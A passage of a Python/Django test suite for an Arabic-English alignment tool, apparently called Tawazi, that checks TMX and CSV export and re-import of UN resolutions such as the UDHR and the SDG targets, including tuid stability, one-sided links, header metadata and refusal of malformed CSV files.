        assert labels["en"] == ["1.1", "1.2", "1.3", "1.4", "1.5", "1.a", "1.b", "2.1"]
        assert labels["ar"] == labels["en"]
        target = Paragraph.objects.get(resolution=again, lang="en", index=5)
        assert target.text.startswith("Ensure significant mobilization")
        html = self.client.get("/r/targets-again/").content.decode()
        row = Paragraph.objects.get(resolution=again, lang="ar", index=5)
        assert gutter_labels(html)[f"para-{row.pk}"] == "ar 1-أ en 1.a"
        parsed = parse_upload("tmx", {"file": SimpleUploadedFile("t.tmx", self.export())})
        assert parsed.en_labels == labels["en"] and parsed.ar_labels == labels["ar"]

    def test_a_unit_keeps_its_tuid_from_one_export_to_the_next(self) -> None:
        """A CAT tool matches units by tuid: target 1.a's units keep theirs when an editor
        confirms them and when the first link is unlinked (which moved every later unit's place
        in the file, the old tuid); every tuid in a file is its own."""

        def tuids(document: bytes) -> dict[str, str]:
            return {
                "".join(tuv.itertext()).strip(): tu.get("tuid", "")
                for tu in ET.fromstring(document).iter("tu")
                for tuv in tu.iter("tuv")
                if tuv.get(XML_LANG) == "en"
            }

        before = tuids(self.export())
        assert len(set(before.values())) == len(before)
        target = next(t for t in before if t.startswith("Ensure significant mobilization"))
        editor = User.objects.create_user("editor-amina", password="long-enough-pw-3")
        resolution = Resolution.objects.get(slug="sdg-targets")
        links = Link.objects.filter(resolution=resolution, level=Level.SENTENCE)
        for link in links.filter(sentences__text__startswith="Ensure significant"):
            link_confirm(resolution=resolution, link_id=link.pk, version=link.version, user=editor)
        first = links.order_by("position")[0]
        link_unlink(resolution=resolution, link_id=first.pk, version=first.version, user=editor)
        after = tuids(self.export())
        assert len(after) == len(before) - 1 and len(set(after.values())) == len(after)
        assert after[target] == before[target]
        sentences = links.get(sentences__text__startswith="Ensure significant").sentences
        ar, en = (sentences.get(lang=lang).paragraph.index + 1 for lang in ("ar", "en"))
        assert before[target] == f"sdg-targets:p{ar}s1:p{en}s1"

    def test_the_same_text_imported_again_keeps_every_tuid(self) -> None:
        """The demo resolution imported again with --replace (its units stored anew, with new
        ids): every unit of its sentence and clause TMX has the tuid it had, so a CAT tool's
        memory of the first export still matches."""

        def tuids(level: str) -> list[str]:
            url = reverse("review:export-tmx", kwargs={"slug": "demo"})
            document = self.client.get(url, {"level": level}).content
            return [tu.get("tuid", "") for tu in ET.fromstring(document).iter("tu")]

        before = {level: tuids(level) for level in ("paragraph", "sentence", "clause")}
        assert all(len(set(t)) == len(t) > 3 for t in before.values())
        assert before["clause"][0].startswith("demo:p1s1c")
        sentences = Sentence.objects.filter(paragraph__resolution__slug="demo")
        ids = set(sentences.values_list("pk", flat=True))
        ar, en = demo_sides()
        resolution_import(
            ar_paragraphs=ar[:4],
            en_paragraphs=en[:4],
            meta=ResolutionMeta(slug="demo"),
            replace=True,
        )
        assert not ids & set(sentences.values_list("pk", flat=True))
        assert {level: tuids(level) for level in before} == before

    def test_csv_rows_carry_their_target_number(self) -> None:
        response = self.client.get(
            reverse("review:export-csv", kwargs={"slug": "sdg-targets"}), {"level": "paragraph"}
        )
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert [r["en_paragraph_labels"] for r in rows] == [
            "1.1",
            "1.2",
            "1.3",
            "1.4",
            "1.5",
            "1.a",
            "1.b",
            "2.1",
        ]
        # Target 1.a is the sixth paragraph, counted from 1 as the reader counts (it said 5).
        assert rows[5]["ar_paragraph_labels"] == "1.a" and rows[5]["en_paragraphs"] == "6"
        assert [r["ar_paragraphs"] for r in rows][:2] == ["1", "2"]

    def test_tmx_paragraph_numbers_count_from_one_and_say_so(self) -> None:
        """Each unit's x-ar-paragraphs / x-en-paragraphs counts paragraphs from 1, as its
        x-position and tuid do; the header's x-tawazi-format 2 tells this file from one
        exported before, which counted from 0."""
        units = read_tmx(self.export("paragraph"), "targets.tmx")
        assert [u.prop("x-ar-paragraphs") for u in units] == [str(n) for n in range(1, 9)]
        assert [u.prop("x-en-paragraphs") for u in units][5] == "6"
        header = ET.fromstring(self.export("paragraph")).find("header")
        assert {p.get("type"): p.text for p in header.findall("prop")}["x-tawazi-format"] == "2"

    def test_a_tmx_exported_before_december_2026_imports_as_one_exported_today(self) -> None:
        """A Tawazi TMX of the first eight targets saved in November 2026 (paragraphs counted
        from 0, targets 1.4 and 1.5 merged into one unit) and today's export both import as
        the stored targets, each with its number."""
        old = Path(__file__).with_name("sdg-targets.paragraph.2026-11.tmx")
        assert b"x-tawazi-format" not in old.read_bytes()
        assert b'<prop type="x-ar-paragraphs">0</prop>' in old.read_bytes()
        stored = Resolution.objects.get(slug="sdg-targets")
        expected = {
            lang: list(
                Paragraph.objects.filter(resolution=stored, lang=lang)
                .order_by("index")
                .values_list("text", "source_label")
            )
            for lang in ("ar", "en")
        }
        new = Path(self.enterClassContext(tempfile.TemporaryDirectory())) / "targets.tmx"
        new.write_bytes(self.export("paragraph"))
        for slug, path in (("from-november", old), ("from-today", new)):
            import_file(path, slug)
            again = Resolution.objects.get(slug=slug)
            for lang in ("ar", "en"):
                got = list(
                    Paragraph.objects.filter(resolution=again, lang=lang)
                    .order_by("index")
                    .values_list("text", "source_label")
                )
                assert got == expected[lang], (slug, lang)

    def test_a_link_over_two_targets_lists_their_numbers_apart(self) -> None:
        """Targets 1.1 and 1.2 merged into one paragraph link: the CSV names both numbers, with
        a separator a label cannot hold (a UDHR label, "Art. 1", has a space)."""
        resolution = Resolution.objects.get(slug="sdg-targets")
        first, second = Link.objects.of(resolution).at(Level.PARAGRAPH).order_by("position")[:2]
        user = User.objects.create_user("editor")
        link_merge(
            resolution=resolution,
            versions={first.pk: first.version, second.pk: second.version},
            user=user,
        )
        response = self.client.get(
            reverse("review:export-csv", kwargs={"slug": "sdg-targets"}), {"level": "paragraph"}
        )
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[0]["en_paragraph_labels"] == "1.1, 1.2"
        assert rows[0]["ar_paragraph_labels"] == "1.1, 1.2"
        assert review_items([resolution], Level.PARAGRAPH)[0].source_labels == "1.1, 1.2"


class UdhrOneSidedTests(TestCase):
    """The UDHR's English preamble has "Whereas it is essential to promote the development of
    friendly relations between nations," which the Arabic lacks; the Arabic opens with an
    adoption note the English lacks. An editor splits each off as a one-sided link."""

    @classmethod
    def setUpTestData(cls) -> None:
        from tests.reader.test_views import import_udhr

        cls.resolution = import_udhr()
        cls.editor = User.objects.create_user("edna", is_staff=True)
        cls.editor.groups.add(Group.objects.get(name="Editor"))
        links = list(Link.objects.of(cls.resolution).at(Level.SENTENCE).order_by("position"))
        # #4 is 1:2 (the Arabic "ولما كانت شعوب الأمم المتحدة" with both English paragraphs);
        # #1 is 2:1 (the Arabic adoption note and the first recital with the English recital).
        for link, ar_at, en_at in ((links[3], 0, 1), (links[0], 1, 0)):
            link_split(
                resolution=cls.resolution,
                link_id=link.pk,
                version=link.version,
                ar_at=ar_at,
                en_at=en_at,
                user=cls.editor,
            )
        cls.friendly = next(
            " ".join(i.en)
            for i in review_items([cls.resolution], Level.SENTENCE)
            if not i.ar and i.en
        )
        assert cls.friendly.startswith("Whereas it is essential to promote the development")

    def export(self, **params: str) -> object:
        return self.client.get(
            reverse("review:export-tmx", kwargs={"slug": "udhr"}), {"level": "sentence", **params}
        )

    def test_a_paragraph_only_english_has_is_not_a_unit_even_when_corrected(self) -> None:
        """The two one-sided links are "corrected" by the editor, yet neither the full TMX nor
        the confirmed-only one has them: a CAT tool would offer an empty Arabic source or an
        empty English translation. The export page says 2 are left out."""
        for params in ({}, {"confirmed": "1"}):
            response = self.export(**params)
            units = tmxfile(io.BytesIO(response.content)).units
            assert self.friendly not in {u.target for u in units}
            assert not any(u.source.startswith("اعتُمد بموجب قرار") for u in units)
            assert all(u.source and u.target for u in units)
            assert response["X-Tawazi-One-Sided-Left-Out"] == "2"
        html = self.client.get(reverse("review:export", kwargs={"slug": "udhr"})).content.decode()
        assert "2 links have no counterpart on one side" in html

    def test_the_export_page_is_headed_with_the_resolutions_title_and_symbol(self) -> None:
        """A translator sees which resolution they export by its title and symbol, in the page
        and in the browser tab, not by the slug the URL uses."""
        html = self.client.get(reverse("review:export", kwargs={"slug": "udhr"})).content.decode()
        page = lxml.html.fromstring(html)
        heading = page.find(".//h1").text_content()
        assert heading == "Export: Universal Declaration of Human Rights (A/RES/217 A (III))"
        assert page.find(".//h1//*[@lang='en']").text_content() == (
            "Universal Declaration of Human Rights"
        )
        assert page.find(".//*[@class='title-ar']").text_content() == (
            "الإعلان العالمي لحقوق الإنسان"
        )
        assert page.findtext(".//title").startswith(
            "Export · Universal Declaration of Human Rights (A/RES/217 A (III))"
        )

    def test_with_one_sided_units_a_tawazi_round_trip_keeps_the_lone_paragraphs(self) -> None:
        """The use for one_sided=1: exported with them and imported again, the resolution still
        has the English recital and the Arabic adoption note; exported without, it has not."""
        self.client.force_login(self.editor)
        for slug, params in (("udhr-pairs", {}), ("udhr-all", {"one_sided": "1"})):
            exported = self.export(**params).content
            fields = {"slug": slug, "title_en": "UDHR", "kind": "tmx"}
            url = reverse("admin:corpus_resolution_import")
            preview = self.client.post(url, {**fields, "file": upload("u.tmx", exported)})
            self.client.post(url, {**fields, "token": preview.context["token"], "save": "1"})
        texts = {
            slug: " ".join(
                Paragraph.objects.filter(resolution__slug=slug).values_list("text", flat=True)
            )
            for slug in ("udhr-pairs", "udhr-all")
        }
        assert self.friendly in texts["udhr-all"] and "اعتُمد بموجب قرار" in texts["udhr-all"]
        assert self.friendly not in texts["udhr-pairs"]
        assert "اعتُمد بموجب قرار" not in texts["udhr-pairs"]

    def test_importing_a_tmx_without_its_one_sided_links_says_what_it_lacks(self) -> None:
        """Exported as pairs only, the UDHR comes back without the English recital and the
        Arabic adoption note: the preview says so, and how to keep them, before anything is
        saved (it was silent); exported with them, it says nothing. The symbol the TMX carries
        fills the empty Symbol field."""
        self.client.force_login(self.editor)
        url = reverse("admin:corpus_resolution_import")
        fields = {"slug": "udhr-again", "kind": "tmx"}
        pairs = self.client.post(url, {**fields, "file": upload("u.tmx", self.export().content)})
        assert pairs.context["notes"] == [
            "u.tmx was exported without its 2 links that have no counterpart on one side: "
            "their text is not in the file, so it will be missing from this resolution. To "
            "keep it, export “TMX with the one-sided links” and import that file."
        ]
        assert 'name="symbol" value="A/RES/217 A (III)"' in pairs.content.decode()
        whole = self.export(one_sided="1").content
        preview = self.client.post(url, {**fields, "file": upload("u.tmx", whole)})
        assert preview.context["notes"] == []
        typed = {**fields, "symbol": "A/RES/217(III)"}
        preview = self.client.post(url, {**typed, "file": upload("u.tmx", whole)})
        assert 'name="symbol" value="A/RES/217(III)"' in preview.content.decode()

    def test_the_tmx_header_names_the_resolution_and_an_import_takes_it_back(self) -> None:
        """A translator who loads three TMX files can tell them apart: the header says the
        UDHR's titles, symbol, body, place and date in a <note> and as x- props (it said the
        slug and symbol only). `import_resolution u.tmx` with no metadata options gives the new
        resolution all of them (it took none, not even the symbol); an option given wins; the
        admin's preview fills each empty field."""
        root = etree.fromstring(self.export().content)
        header = root.find("header")
        props = {prop.get("type"): prop.text for prop in header.findall("prop")}
        assert {k: v for k, v in props.items() if k in METADATA} == {
            "x-symbol": "A/RES/217 A (III)",
            "x-title-en": "Universal Declaration of Human Rights",
            "x-title-ar": "الإعلان العالمي لحقوق الإنسان",
            "x-body": "UN General Assembly",
            "x-date": "1948-12-10",
            "x-place": "Paris",
        }
        assert [note.text for note in header.findall("note")][1] == (
            "Universal Declaration of Human Rights · الإعلان العالمي لحقوق الإنسان "
            "(A/RES/217 A (III)); UN General Assembly, Paris, 10 December 1948"
        )
        dtd = etree.DTD(str(Path(__file__).with_name("tmx14.dtd")))
        assert dtd.validate(root), dtd.error_log.filter_from_errors()
        fields = ("symbol", "title_en", "title_ar", "body", "session", "date", "place")
        original = Resolution.objects.filter(slug="udhr").values(*fields).get()
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "u.tmx"
            path.write_bytes(self.export(one_sided="1").content)
            for slug, options in (("udhr-named", ()), ("udhr-typed", ("--title-en", "UDHR"))):
                import_file(path, slug, *options)
        assert Resolution.objects.filter(slug="udhr-named").values(*fields).get() == original
        typed = Resolution.objects.filter(slug="udhr-typed").values(*fields).get()
        assert typed == {**original, "title_en": "UDHR"}
        self.client.force_login(self.editor)
        preview = self.client.post(
            reverse("admin:corpus_resolution_import"),
            {
                # As a browser posts the form: every field, the untyped ones empty.
                **dict.fromkeys(fields, ""),
                "slug": "udhr-admin",
                "kind": "tmx",
                "body": "UNGA",
                "file": upload("u.tmx", self.export(one_sided="1").content),
            },
        )
        form = lxml.html.fromstring(preview.content.decode())
        offered = {
            name: form.find(f".//input[@name='{name}']").get("value") or "" for name in fields
        }
        assert offered == {
            **{name: str(value or "") for name, value in original.items()},
            "date": "1948-12-10",
            "body": "UNGA",
        }


class CatToolTmxTests(TestCase):
    """What CAT tools require of a TMX 1.4b file, on the three shared resolutions whole (the
    OIC's, the UDHR with its 30 articles, the SDG targets), at every level, either language as
    the source, with and without the one-sided units."""

    @classmethod
    def setUpTestData(cls) -> None:
        from tests.conftest import udhr_text
        from tests.reader.test_views import import_sdg

        ar, en = demo_sides()
        # Paragraph 6's English pasted from Word with a line break (a vertical tab) for a space.
        en[5] = en[5].replace(" ", "\x0b", 1)
        resolution_import(ar_paragraphs=ar, en_paragraphs=en, meta=ResolutionMeta(slug="demo"))
        # A title mis-decoded from Windows-1252: its en dash is the C1 control U+0096.
        title = "Universal Declaration of Human Rights \x96 UDHR"
        resolution_import(
            ar_paragraphs=udhr_text("ar"),
            en_paragraphs=udhr_text("en"),
            meta=ResolutionMeta(slug="udhr", symbol="A/RES/217 A (III)", title_en=title),
        )
        import_sdg("global_targets", "sdg-targets")

    def test_every_export_is_a_tmx_a_cat_tool_takes(self) -> None:
        """Each file validates against the TMX 1.4b DTD and has what the DTD cannot say: a UTF-8
        declaration and no BOM; srclang, adminlang, o-tmf, segtype and datatype as TMX 1.4b
        defines them; on every <tuv> an xml:lang of the file's two languages, once each, the
        source's first; a unique tuid; no empty <seg>, <prop> or <note>; and no control
        character (C0 but tab and line breaks, DEL, C1) and no noncharacter anywhere in the
        text."""
        dtd = etree.DTD(str(Path(__file__).with_name("tmx14.dtd")))
        unwanted = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufdd0-\ufdef\ufffe\uffff]")
        problems: list[str] = []
        for slug in ("demo", "udhr", "sdg-targets"):
            for level in Level.values:
                for params in ({}, {"source": "en"}, {"one_sided": "1"}):
                    where = f"{slug} {level} {params}"
                    data = self.client.get(
                        reverse("review:export-tmx", kwargs={"slug": slug}),
                        {"level": level, **params},
                    ).content
                    if not data.startswith(b'<?xml version="1.0" encoding="UTF-8"?>'):
                        problems.append(f"{where}: no UTF-8 declaration first")
                    text = data.decode("utf-8")
                    for found in sorted(set(unwanted.findall(text))):
                        problems.append(f"{where}: character U+{ord(found):04X}")
                    root = etree.fromstring(data, etree.XMLParser(resolve_entities=False))
                    if not dtd.validate(root):
                        problems.append(f"{where}: {dtd.error_log.filter_from_errors()}")
                    header = root.find("header")
                    source = params.get("source", "ar")
                    target = "en" if source == "ar" else "ar"
                    wanted = {
                        "srclang": source,
                        "adminlang": "en",
                        "segtype": {"clause": "phrase"}.get(level, level),
                        "datatype": "plaintext",
                        "o-tmf": "tawazi-alignment/1",
                    }
                    for name, value in wanted.items():
                        if header.get(name) != value:
                            problems.append(f"{where}: {name}={header.get(name)!r}")
                    tuids = [tu.get("tuid") for tu in root.iter("tu")]
                    if len(set(tuids)) != len(tuids) or not all(tuids):
                        problems.append(f"{where}: tuids not unique")
                    for tu in root.iter("tu"):
                        langs = [tuv.get(XML_LANG) for tuv in tu.findall("tuv")]
                        if langs not in ([source, target], [source], [target]) or (
                            "one_sided" not in params and len(langs) != 2
                        ):
                            problems.append(f"{where}: tu {tu.get('tuid')} has {langs}")
                    for element in root.iter("seg", "note"):
                        if not "".join(element.itertext()).strip():
                            problems.append(
                                f"{where}: empty <{element.tag} {dict(element.attrib)}>"
                            )
        assert not problems, "\n".join(sorted(set(problems))[:40])
        root = ET.fromstring(
            self.client.get(
                reverse("review:export-tmx", kwargs={"slug": "demo"}), {"level": "paragraph"}
            ).content
        )
        segs = [tuv.findtext("seg") for tuv in root.iter("tuv") if tuv.get(XML_LANG) == "en"]
        assert segs[5] == demo_sides()[1][5]


class TmxRoundTripTests(TestCase):
    """A resolution exported by Tawazi as TMX and imported again as a new resolution has the
    same paragraphs in both languages, in order: a link spanning two paragraphs (the UDHR's
    Arabic recital answering the English "friendly relations" recital and the next) is cut back
    into them, and the one-sided links are kept when asked for."""

    @classmethod
    def setUpTestData(cls) -> None:
        from tests.reader.test_views import import_udhr

        ar, en = demo_sides()
        resolution_import(ar_paragraphs=ar, en_paragraphs=en, meta=ResolutionMeta(slug="demo"))
        import_udhr()
        cls.editor = User.objects.create_user("edna", is_staff=True)
        cls.editor.groups.add(Group.objects.get(name="Editor"))

    @staticmethod
    def paragraphs(slug: str) -> dict[str, list[str]]:
        resolution = Resolution.objects.get(slug=slug)
        return {
            lang: list(
                Paragraph.objects.of(resolution)
                .in_language(lang)
                .order_by("index")
                .values_list("text", flat=True)
            )
            for lang in ("ar", "en")
        }

    def test_demo_and_udhr_come_back_with_the_same_paragraphs_through_the_admin(self) -> None:
        """The UDHR came back with 8 + 8 paragraphs at paragraph and sentence level; now 10 +
        10, the same texts, as the demo's 42 + 42 do."""
        self.client.force_login(self.editor)
        url = reverse("admin:corpus_resolution_import")
        for slug, level in (("udhr", "paragraph"), ("udhr", "sentence"), ("demo", "paragraph")):
            exported = self.client.get(
                reverse("review:export-tmx", kwargs={"slug": slug}),
                {"level": level, "one_sided": "1"},
            ).content
            fields = {"slug": f"{slug}-{level}", "title_en": "Round trip", "kind": "tmx"}
            preview = self.client.post(url, {**fields, "file": upload("r.tmx", exported)})
            self.client.post(url, {**fields, "token": preview.context["token"], "save": "1"})
            assert self.paragraphs(f"{slug}-{level}") == self.paragraphs(slug), (slug, level)

    def test_clause_level_with_one_sided_links_through_the_command(self) -> None:
        """At clause level the UDHR has clauses with no counterpart; exported with --one-sided
        and imported with `manage.py import_resolution x.tmx`, every paragraph is whole."""
        export_then_import(
            "udhr", "udhr-clause", "--format", "tmx", "--level", "clause", "--one-sided"
        )
        assert self.paragraphs("udhr-clause") == self.paragraphs("udhr")

    def test_the_command_says_what_a_pairs_only_tmx_lacks(self) -> None:
        """`import_resolution x.tmx` of a TMX exported without --one-sided (the UDHR's clauses,
        two with no counterpart once an editor has unlinked a pair) says on stderr that their
        text is not in it; stdout stays the slug alone."""
        udhr = Resolution.objects.get(slug="udhr")
        pair = Link.objects.of(udhr).at(Level.CLAUSE).order_by("position").first()
        assert pair is not None
        link_unlink(resolution=udhr, link_id=pair.pk, version=pair.version, user=self.editor)
        out, err = export_then_import(
            "udhr", "udhr-pairs", "--format", "tmx", "--level", "clause", name="udhr.tmx"
        )
        assert out == "udhr-pairs\n"
        assert re.search(
            r"udhr\.tmx was exported without its \d+ links? that ha(ve|s) no counterpart on one "
            r"side: their text is not in the file",
            err,
        ), err

    def csv_rows(self, slug: str, level: str) -> list[tuple[str, ...]]:
        """Each CSV row's pair as a translator reads it: both texts, each side's paragraphs and
        the source's numbers for them."""
        text = resolution_csv(resolution=Resolution.objects.get(slug=slug), level=level)
        columns = ("ar", "en", "ar_paragraphs", "en_paragraphs")
        columns += ("ar_paragraph_labels", "en_paragraph_labels")
        return [tuple(row[c] for c in columns) for row in csv.DictReader(io.StringIO(text))]

    def test_a_csv_export_comes_back_with_the_same_paragraphs_and_pairs(self) -> None:
        """`import_resolution x.csv` of Tawazi's own CSV (it was read as a bilingual text file
        and refused): the UDHR at each level and the demo come back with the same paragraphs,
        in both languages and in order, and the same article labels; the link of the Arabic
        recital with two English ones is cut back into them; and at the CSV's level the same
        pairs, row for row."""
        for slug, level in (
            ("udhr", "paragraph"),
            ("udhr", "sentence"),
            ("udhr", "clause"),
            ("demo", "paragraph"),
        ):
            new = f"{slug}-{level}-csv"
            out, err = export_then_import(
                slug, new, "--format", "csv", "--level", level, name=f"{slug}.{level}.csv"
            )
            inside = {
                "paragraph": "pairs paragraphs: the sentences and clauses inside each pair are "
                "aligned automatically, without statuses, flags or notes.\n",
                "sentence": "pairs sentences: the clauses inside each pair are aligned "
                "automatically, without statuses, flags or notes.\n",
            }
            assert out == f"{new}\n", (slug, level)
            # One line on stderr for the levels the aligner fills in; none for clauses.
            said = f"{slug}.{level}.csv {inside[level]}" if level in inside else ""
            assert err.endswith(said) and err.count("\n") == (level in inside), err
            assert self.paragraphs(new) == self.paragraphs(slug), (slug, level)
            assert self.csv_rows(new, level) == self.csv_rows(slug, level), (slug, level)
        spanning = [r for r in self.csv_rows("udhr", "paragraph") if " " in r[3]]
        assert spanning and spanning == [
            r for r in self.csv_rows("udhr-paragraph-csv", "paragraph") if " " in r[3]
        ]

    def review_rows(self, slug: str, level: str) -> list[tuple[str, ...]]:
        """Each CSV row as a reviewer left it: its place, pair, score, status, flag and note."""
        text = resolution_csv(resolution=Resolution.objects.get(slug=slug), level=level)
        columns = ("position", "ar", "en", "ar_paragraphs", "en_paragraphs", "score")
        columns += ("status", "flagged", "note")
        return [tuple(row[c] for c in columns) for row in csv.DictReader(io.StringIO(text))]

    def check(self, slug: str, level: str) -> None:
        """An editor's work at one level: the second link confirmed, the third flagged with a
        note, the first two adjacent links after them that can be merged merged by hand."""
        resolution = Resolution.objects.get(slug=slug)
        links = list(Link.objects.of(resolution).at(level).order_by("position"))
        link_confirm(
            resolution=resolution, link_id=links[1].pk, version=links[1].version, user=self.editor
        )
        link_flag(
            resolution=resolution,
            link_id=links[2].pk,
            version=links[2].version,
            user=self.editor,
            note=f"Check the {level} against the Arabic: “=SUM(A1)” is not the source’s",
        )
        for first, second in zip(links[3:], links[4:], strict=False):
            try:
                link_merge(
                    resolution=resolution,
                    versions={first.pk: first.version, second.pk: second.version},
                    user=self.editor,
                )
            except EditError:
                continue
            return
        raise AssertionError(f"no two {level} links of {slug} could be merged")

    def test_a_checked_csv_comes_back_with_its_pairs_statuses_flags_and_notes(self) -> None:
        """A translator exports a checked resolution as CSV and imports it as a new one: at the
        CSV's level every pair (an editor's hand merge too), score, status, flag and note comes
        back row for row. The import re-aligned the sentences and clauses inside each paragraph
        pair and dropped every status, flag and note (all "auto", none flagged)."""
        for slug in ("udhr", "demo"):
            for level in ("paragraph", "sentence", "clause"):
                self.check(slug, level)
            for level in ("paragraph", "sentence", "clause"):
                new = f"{slug}-{level}-checked"
                export_then_import(
                    slug, new, "--format", "csv", "--level", level, name=f"{slug}.{level}.csv"
                )
                rows = self.review_rows(slug, level)
                assert {r[6] for r in rows} == {"auto", "confirmed", "corrected"}, (slug, level)
                assert any(r[7] == "1" and r[8] for r in rows), (slug, level)
                assert self.review_rows(new, level) == rows, (slug, level)
                assert self.paragraphs(new) == self.paragraphs(slug), (slug, level)

    def test_one_sided_links_come_back_in_their_order_and_with_their_scores(self) -> None:
        """An editor splits pairs into their English side, then their Arabic side (two links
        with no counterpart, English first, each keeping the pair's score): the first three
        pairs at each level of the UDHR and the demo. Imported from the CSV of that level,
        they come back in that order with those scores (a paragraph with no counterpart scored
        0, and the Arabic of a split paragraph or clause came first)."""
        for slug in ("udhr", "demo"):
            resolution = Resolution.objects.get(slug=slug)
            for level in ("paragraph", "sentence", "clause"):
                for _ in range(3):
                    link = next(
                        item
                        for item in review_items([resolution], level, reasons=False)
                        if item.ar and item.en and item.score > 0
                    )
                    link_split(
                        resolution=resolution,
                        link_id=link.id,
                        version=link.version,
                        ar_at=0,
                        en_at=len(link.en),
                        user=self.editor,
                        seen_below={
                            below.pk: below.version for below in Link.objects.of(resolution)
                        },
                    )
            for level in ("paragraph", "sentence", "clause"):
                new = f"{slug}-{level}-split"
                export_then_import(slug, new, "--format", "csv", "--level", level, name="s.csv")
                rows = self.review_rows(slug, level)
                lone = [r for r in rows if not (r[1] and r[2])]
                assert any(r[2] and float(r[5]) > 0 for r in lone), (slug, level)
                got = self.review_rows(new, level)
                assert got == rows, (slug, level, [i for i, r in enumerate(rows) if got[i] != r])

    def test_a_csv_checked_in_a_spreadsheet_brings_its_statuses_and_notes(self) -> None:
        """A translator checks the UDHR's sentence CSV in a spreadsheet: types "Confirmed" as
        the second link's status and a note beside the third without flagging it, and saves it
        sorted by status and note. Imported, the second is confirmed and the third flagged with
        the note (a note shows on flagged links only), and stderr says so; every other row is
        as exported, in the text's order (the sorted rows garbled the paragraphs)."""
        text = resolution_csv(resolution=Resolution.objects.get(slug="udhr"), level="sentence")
        rows = list(csv.DictReader(io.StringIO(text)))
        rows[1]["status"] = "Confirmed"
        rows[2]["note"] = "The Arabic says “peoples”, not “nations”"
        out = io.StringIO()
        writer = csv.DictWriter(out, CSV_COLUMNS, quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerows(sorted(rows, key=lambda r: (r["status"].lower(), r["note"]), reverse=True))
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "checked.csv"
            path.write_text(out.getvalue(), encoding="utf-8")
            _, err = import_file(path, "udhr-checked")
        assert f"{path}: 1 note written without a flag (line 3) imported as flagged" in err
        expected = self.review_rows("udhr", "sentence")
        expected[1] = (*expected[1][:6], "confirmed", "0", "")
        expected[2] = (*expected[2][:6], "auto", "1", rows[2]["note"])
        assert self.review_rows("udhr-checked", "sentence") == expected

    def test_a_csv_export_comes_back_through_the_admin(self) -> None:
        """The admin's import takes "CSV file exported by Tawazi": the UDHR's sentence CSV, as
        the export page serves it (UTF-8 with a BOM), previews as 10 + 10 paragraphs and is saved
        with the same paragraphs and the same sentence pairs, an editor's confirmation, flag and
        merge with them."""
        for level in ("paragraph", "sentence"):
            self.check("udhr", level)
        self.client.force_login(self.editor)
        exported = self.client.get(
            reverse("review:export-csv", kwargs={"slug": "udhr"}), {"level": "sentence"}
        ).content
        assert exported.startswith(b"\xef\xbb\xbf")
        url = reverse("admin:corpus_resolution_import")
        fields = {"slug": "udhr-admin", "title_en": "UDHR", "kind": "csv"}
        preview = self.client.post(url, {**fields, "file": upload("udhr.csv", exported)})
        assert "10 Arabic and 10 English paragraphs" in preview.content.decode()
        assert not Resolution.objects.filter(slug="udhr-admin").exists()
        self.client.post(url, {**fields, "token": preview.context["token"], "save": "1"})
        assert self.paragraphs("udhr-admin") == self.paragraphs("udhr")
        assert self.csv_rows("udhr-admin", "sentence") == self.csv_rows("udhr", "sentence")
        assert self.review_rows("udhr-admin", "sentence") == self.review_rows("udhr", "sentence")

    def test_a_csv_with_one_sided_links_keeps_them(self) -> None:
        """An editor unlinks the UDHR's first paragraph link (the Arabic adoption note and first
        recital with the English recital): each of the three paragraphs is a link with no
        counterpart. Exported as CSV and imported again, both paragraphs are there,
        still without a counterpart, every other pair as it was."""
        udhr = Resolution.objects.get(slug="udhr")
        pair = Link.objects.of(udhr).at(Level.PARAGRAPH).order_by("position").first()
        assert pair is not None
        link_unlink(resolution=udhr, link_id=pair.pk, version=pair.version, user=self.editor)
        rows = self.csv_rows("udhr", "paragraph")
        lone = [(bool(r[0]), bool(r[1])) for r in rows if not (r[0] and r[1])]
        assert lone == [(True, False), (True, False), (False, True)]
        export_then_import(
            "udhr", "udhr-lone", "--format", "csv", "--level", "paragraph", name="u.csv"
        )
        assert self.paragraphs("udhr-lone") == self.paragraphs("udhr")
        assert self.csv_rows("udhr-lone", "paragraph") == rows

    def test_a_malformed_csv_is_refused_in_one_line_and_nothing_is_written(self) -> None:
        """A CSV that is not Tawazi's, or was broken in a spreadsheet, is refused with one line
        saying where and what; no resolution, paragraph or link is stored."""
        good = resolution_csv(resolution=Resolution.objects.get(slug="udhr"), level="paragraph")
        lines = good.splitlines(keepends=True)

        def with_cell(column: str, value: str) -> str:
            """The first two lines of the good CSV, the first link's cell in column changed."""
            row = next(csv.DictReader(io.StringIO(good)))
            out = io.StringIO()
            writer = csv.DictWriter(out, CSV_COLUMNS, quoting=csv.QUOTE_ALL)
            writer.writeheader()
            writer.writerow({**row, column: value})
            return out.getvalue()

        cases = {
            "a,b,c\n1,2,3\n": "not a CSV exported by Tawazi: its first line lacks the columns "
            "level, ar, en, ar_paragraphs, en_paragraphs.",
            lines[0]: "the CSV has a header but no links.",
            lines[0] + lines[1].replace('"paragraph"', '"sentence"', 1) + lines[2]: (
                "line 3: a paragraph link after sentence links; a CSV export holds one level."
            ),
            lines[0] + lines[1].rstrip("\r\n") + ',"extra"\r\n': (
                f"line 2: {len(CSV_COLUMNS) + 1} cells where the header has {len(CSV_COLUMNS)}."
            ),
            with_cell("ar_paragraphs", "one"): (
                "line 2: ar_paragraphs 'one' is not paragraph numbers (such as 3 or 3 4)."
            ),
            lines[0] + '"paragraph","1","نص عربي' + "\n": "line 2: not valid CSV (",
            "\ufeff" + with_cell("ar_paragraphs", ""): (
                "line 2: Arabic text but no ar_paragraphs."
            ),
            with_cell("status", "checked"): (
                "line 2: status 'checked' is not auto, confirmed or corrected."
            ),
            with_cell("flagged", "maybe"): "line 2: flagged 'maybe' is not 1 (flagged) or 0.",
        }
        before = (Resolution.objects.count(), Paragraph.objects.count(), Link.objects.count())
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "broken.csv"
            for text, message in cases.items():
                path.write_text(text, encoding="utf-8")
                with self.assertRaises(CommandError) as refused:
                    call_command(
                        "import_resolution", str(path), "--slug", "broken", stdout=io.StringIO()
                    )
                said = str(refused.exception)
                assert said.startswith(f"{path}") and message in said, (said, message)
                assert "\n" not in said
        after = (Resolution.objects.count(), Paragraph.objects.count(), Link.objects.count())
        assert after == before


class ImportTests(TestCase):
    @classmethod
